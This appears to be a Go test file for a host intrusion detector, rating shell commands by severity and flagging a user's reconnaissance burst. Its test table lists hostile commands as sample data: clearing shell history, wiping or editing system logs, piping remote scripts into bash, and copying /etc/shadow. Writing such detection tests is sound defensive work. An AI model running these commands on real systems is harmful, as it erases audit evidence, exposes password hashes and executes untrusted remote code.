package commands_test

import (
	"testing"

	"telltale/detect"
	"telltale/detect/commands"
	"telltale/detect/detecttest"
)

func TestCommands(t *testing.T) {
	for cmd, want := range map[string]detect.Level{
		"unset HISTFILE":                                       detect.Medium,
		"export HISTFILE=/dev/null":                            detect.Medium,
		"sed -i '/203.0.113.6/d' /var/log/auth.log":            detect.High,
		"rm -f /var/log/wtmp":                                  detect.High,
		"rm -rf /var/log/*.gz /var/log/*.1":                    detect.Medium,
		"rm -f /var/log/messages-2026*":                        detect.Medium,
		"sudo truncate -s 0 /var/log/syslog":                   detect.Medium,
		"rm -rf /var/log/*":                                    detect.High,
		"rm -rf /var/log/syslog /var/log/wtmp":                 detect.High,
		"rm -rf /var/log/apache2/access.log":                   detect.High,
		"shred -u /var/log/syslog":                             detect.High,
		"rm -rf /var/log/":                                     detect.High,
		"curl -fsSL https://example.net/install.sh | bash":     detect.Medium,
		"curl -fsSL https://pastebin.com/raw/x | bash":         detect.Critical,
		"curl -s http://10.0.0.4/boot.sh | bash":               detect.High,
		"curl -s http://10.0.0.4.example.net/boot.sh | bash":   detect.Critical,
		"cat /etc/shadow":                                      detect.Medium,
		"sudo cat /etc/shadow":                                 detect.Medium,
		"cat /etc/shadow > /tmp/s":                             detect.High,
		"cat /etc/shadow | base64":                             detect.High,
		"cp /etc/shadow /tmp":                                  detect.High,
		"curl http://203.0.113.9/x | sh":                       detect.Critical,
		"wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k": detect.High,
		"touch -d 2020-01-01 x":                                detect.Medium,
		"tail -f /var/log/syslog":                              detect.Info,
		"grep alice /var/log/auth.log":                         detect.Info,
		"apt-get update && apt-get upgrade":                    detect.Info,
		"wget https://wordpress.org/latest.tar.gz":             detect.Info,
		"vi /etc/ssh/sshd_config":                              detect.Info,
		"export HISTSIZE=10000":                                detect.Info,
	} {
		got := detect.Info
		for _, f := range detecttest.Run(t, commands.New(), detecttest.Scene(), `- shell-command user.name=bob shell.history=/home/bob/.bash_history "process.command_line=`+cmd+`"`) {
			got = max(got, f.Level)
		}
		if got != want {
			t.Errorf("%q is %s, want %s", cmd, got, want)
		}
	}
}

func TestLookingAround(t *testing.T) {
	got := detecttest.Run(t, commands.New(), detecttest.Scene(), `
- shell-command user.name=bob shell.history=/home/bob/.bash_history process.command_line=whoami
- shell-command user.name=bob shell.history=/home/bob/.bash_history process.command_line=id
- shell-command user.name=bob shell.history=/home/bob/.bash_history "process.command_line=uname -a"
- shell-command user.name=bob shell.history=/home/bob/.bash_history process.command_line=w
- shell-command user.name=amy shell.history=/home/amy/.bash_history process.command_line=w`)
	if len(got) != 1 || got[0].Account != "bob" || got[0].Count != 4 {
		t.Errorf("%+v", got)
	}
}
